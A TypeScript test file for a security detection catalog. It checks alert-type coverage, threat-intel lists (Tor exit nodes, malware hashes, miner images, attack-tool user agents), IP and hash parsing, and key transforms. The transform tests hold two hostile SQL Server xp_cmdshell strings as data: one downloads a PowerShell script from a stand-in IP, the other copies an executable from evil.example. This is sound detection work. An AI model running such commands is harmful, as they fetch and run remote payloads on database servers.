/**
 * The shipped detection catalog and its building blocks: it compiles without a single error, covers at least 50 of
 * Defender's alert types across all six plans with descriptions and remediation of its own, carries the alert facts
 * exactly as the shared reference states them, and its threat-intel lists, IP sets, hash and image normalisation and
 * key transforms behave as documented.
 */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { DEFAULT_CATALOG_DIR } from '../../src/catalog/index.js';
import {
  IpSet,
  PROTECTION_PLANS,
  TRANSFORMS,
  ThreatIntel,
  imageRepository,
  isPrivateIp,
  normaliseHash,
  normaliseIp,
  parseDuration,
  readListEntries,
} from '../../src/protection/index.js';
import { SHARED_DATA } from '../shared-data.js';
import { catalog } from './helpers.js';

describe('the shipped catalog', () => {
  const c = catalog();

  it('compiles in strict mode with no errors and no automatic Sigma alerts', () => {
    expect(c.errors).toEqual([]);
    expect(c.definitions.filter((d) => d.auto)).toEqual([]);
  });

  it('raises at least 50 of Defender’s alert types, in every one of the six plans', () => {
    const microsoft = [...new Set(c.definitions.map((d) => d.alertType))].filter((t) => c.alertTypes.get(t)?.origin === 'microsoft');
    expect(microsoft.length).toBeGreaterThanOrEqual(50);
    const plans = new Set(microsoft.map((t) => c.alertTypes.get(t)!.plan));
    expect([...plans].sort()).toEqual([...PROTECTION_PLANS].sort());
    for (const plan of PROTECTION_PLANS) expect(microsoft.filter((t) => c.alertTypes.get(t)!.plan === plan).length).toBeGreaterThanOrEqual(9);
  });

  it('every detection has its own description, remediation, techniques and a plan matching its alert type', () => {
    for (const d of c.definitions) {
      expect(d.description.length, d.id).toBeGreaterThan(40);
      expect(d.remediation.length, d.id).toBeGreaterThan(0);
      if (d.alertType !== 'VM_EICAR') expect(d.techniques.length, d.id).toBeGreaterThan(0);
      expect(c.alertTypes.get(d.alertType)!.plan).toBe(d.plan);
    }
  });

  it('uses every detection kind: signatures, threat intel, thresholds, sequences and baselines', () => {
    const kinds = new Set(c.definitions.map((d) => d.kind));
    expect([...kinds].sort()).toEqual(['baseline-anomaly', 'sequence', 'signature', 'threshold', 'ti-match']);
  });

  const shared = join(SHARED_DATA, 'alerts', 'alert-types.json');
  it.skipIf(!existsSync(shared))('carries the alert facts exactly as the shared reference states them', () => {
    const upstream = JSON.parse(readFileSync(shared, 'utf8')).alerts as Array<{ alertType: string; plan: string; displayName: string; severity: string; tactics: string[]; status: string }>;
    expect(c.alertTypes.size).toBeGreaterThanOrEqual(upstream.length);
    for (const a of upstream) {
      expect(c.alertTypes.get(a.alertType)).toMatchObject({ plan: a.plan, displayName: a.displayName, severity: a.severity, tactics: a.tactics, status: a.status, origin: 'microsoft' });
    }
  });

  it('loads its threat-intel lists', () => {
    const lists = Object.fromEntries(c.threatIntel.lists().map((l) => [l.name, l]));
    expect(lists['tor-exit-nodes'].entries).toBeGreaterThan(2000);
    expect(lists['tor-exit-nodes'].rejected).toBe(0);
    expect(lists['malware-hashes'].entries).toBe(9); // 3 rows × (sha256, md5, sha1)
    expect(c.threatIntel.has('tor-exit-nodes', '204.8.96.141')).toBe(true);
    expect(c.threatIntel.has('tor-exit-nodes', '2620:7:6003::141')).toBe(true);
    expect(c.threatIntel.has('malware-hashes', 'RNiGEv6oqPNt6C4SeKuwLw==')).toBe(true);
    expect(c.threatIntel.has('miner-images', 'docker.io/xmrig/xmrig:latest')).toBe(true);
    expect(c.threatIntel.has('attack-tools', 'sqlmap/1.7.2#stable (https://sqlmap.org)')).toBe(true);
  });

  it('every Sigma rule names itself with a UUID and a name, and a detection names every rule', () => {
    for (const r of [...c.sigmaRules, ...c.sigmaCorrelations]) {
      expect(r.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
      expect(r.name).toMatch(/^palisade_[a-z0-9_]+$/);
    }
  });
});

describe('IP addresses and sets', () => {
  it('parses v4, v6, ports, brackets and IPv4-mapped addresses', () => {
    expect(normaliseIp('204.8.96.141:51234')).toBe('204.8.96.141');
    expect(normaliseIp('[2620:7:6003::141]:443')).toBe('2620:7:6003:0:0:0:0:141');
    expect(normaliseIp('::ffff:10.1.2.3')).toBe('10.1.2.3');
    expect(normaliseIp('2001:DB8::1')).toBe('2001:db8:0:0:0:0:0:1');
    for (const bad of ['', '1.2.3', '256.1.1.1', '1.2.3.4.5', 'abc', '1::2::3', '12345::1']) expect(normaliseIp(bad), bad).toBeUndefined();
  });

  it('answers membership for addresses and CIDR ranges, and knows private ranges', () => {
    const set = new IpSet();
    for (const e of ['10.0.0.0/8', '203.0.113.7', '2001:db8::/32', 'not-an-ip']) set.add(e);
    expect(set.has('10.200.3.4')).toBe(true);
    expect(set.has('11.0.0.1')).toBe(false);
    expect(set.has('203.0.113.7:8080')).toBe(true);
    expect(set.has('2001:db8:ffff::1')).toBe(true);
    expect(set.has('2001:db9::1')).toBe(false);
    expect(set.size).toBe(3);
    expect(isPrivateIp({ version: 4, value: 0xc0a80101n, text: '192.168.1.1' })).toBe(true);
  });
});

describe('threat-intel values', () => {
  it('normalises hashes given as hex or base64 Content-MD5', () => {
    expect(normaliseHash('RNiGEv6oqPNt6C4SeKuwLw==')).toBe('44d88612fea8a8f36de82e1278abb02f');
    expect(normaliseHash('44D88612FEA8A8F36DE82E1278ABB02F')).toBe('44d88612fea8a8f36de82e1278abb02f');
    expect(normaliseHash('xyz')).toBeUndefined();
  });

  it('compares image repositories without registry, tag or digest', () => {
    expect(imageRepository('docker.io/xmrig/xmrig:6.21@sha256:abc')).toBe('xmrig/xmrig');
    expect(imageRepository('nginx')).toBe('library/nginx');
    expect(imageRepository('localhost:5000/team/app:1')).toBe('team/app');
  });

  it('reads Tor’s published list formats', () => {
    expect(readListEntries('# comment\n1.2.3.4\n\n5.6.7.8\n', 'lines')).toEqual(['1.2.3.4', '5.6.7.8']);
    expect(readListEntries('ExitNode ABC\nPublished 2026-01-01 00:00:00\nExitAddress 1.2.3.4 2026-01-01 00:10:00\n', 'tordnsel')).toEqual(['1.2.3.4']);
    expect(readListEntries('"a","b"\n"1","2"\n', 'csv', ['b'])).toEqual(['2']);
  });

  it('a manifest naming a missing file or a bad kind is a coded error', () => {
    expect(() => ThreatIntel.fromManifest(join(DEFAULT_CATALOG_DIR, 'protection', 'no-such.json'))).toThrow(expect.objectContaining({ code: 'ThreatIntelNotFound' }));
  });
});

describe('durations and key transforms', () => {
  it('parses durations', () => {
    expect(parseDuration('10m')).toBe(600_000);
    expect(parseDuration('7d')).toBe(604_800_000);
    expect(parseDuration('0s')).toBeUndefined();
    expect(parseDuration('0s', { allowZero: true })).toBe(0);
    expect(parseDuration('ten minutes')).toBeUndefined();
  });

  it('transforms values for keys', () => {
    expect(TRANSFORMS.ipNetwork('81.2.69.142')).toBe('81.2.69.0/24');
    expect(TRANSFORMS.ipScope('10.1.2.3')).toBe('private');
    expect(TRANSFORMS.urlRoute('https://x/orders/v1/orders/42?a=1')).toBe('/orders/v1/orders/{}');
    expect(TRANSFORMS.urlValues('https://x/orders/v1/orders/42?page=2')).toBe('42&page=2');
    expect(TRANSFORMS.urlParamTypes("https://x/orders?id=42&from=2026-01-01&q=abc'")).toEqual(['id:integer', 'from:datetime', 'q:string']);
    expect(TRANSFORMS.userAgentProduct('azsdk-python-storage-blob/12.19.0 Python/3.11')).toBe('azsdk-python-storage-blob');
    expect(TRANSFORMS.hostDomain('web-01.corp.contoso.example')).toBe('corp.contoso.example');
    expect(TRANSFORMS.hostDomain('WIN-8J3K2L1')).toBeUndefined();
    expect(TRANSFORMS.externalHost("EXEC xp_cmdshell 'powershell iwr http://203.0.113.9/a.ps1'")).toBe('203.0.113.9');
    expect(TRANSFORMS.externalHost("EXEC xp_cmdshell 'copy \\\\evil.example\\share\\x.exe c:\\'")).toBe('evil.example');
    expect(TRANSFORMS.blobContainer('/account/container/dir/blob')).toBe('container');
  });
});
